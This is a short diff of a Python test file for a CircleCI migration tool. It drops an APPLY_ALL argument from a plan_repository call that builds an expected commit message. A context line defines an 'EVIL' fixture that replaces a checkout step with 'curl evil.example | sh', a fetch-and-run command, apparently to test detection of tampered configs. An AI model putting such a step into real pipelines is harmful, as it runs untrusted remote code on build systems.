@@ -10,7 +10,6 @@ import pytest
 from msgspec import Struct
 
 from cci_migrate.campaign.repository_plan import plan_repository
-from cci_migrate.findings import APPLY_ALL
 from cci_migrate.forges import campaign_identity
 from cci_migrate.forges.host import CHANGE_TRAILER
 from cci_migrate.policy.settings import Policy
@@ -25,7 +24,7 @@ EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh"
 
 def message(campaign: str) -> str:
     """What the tool itself would have written on the commit."""
-    digest = plan_repository({CONFIG: PLAIN}, Policy(), APPLY_ALL, {}).digest
+    digest = plan_repository({CONFIG: PLAIN}, Policy(), {}).digest
     return (
         f"Authenticate Docker registry pulls in CircleCI\n\n{CHANGE_TRAILER}: {digest}\n"
         f"{campaign_identity.CAMPAIGN_TRAILER}: {campaign}\n"
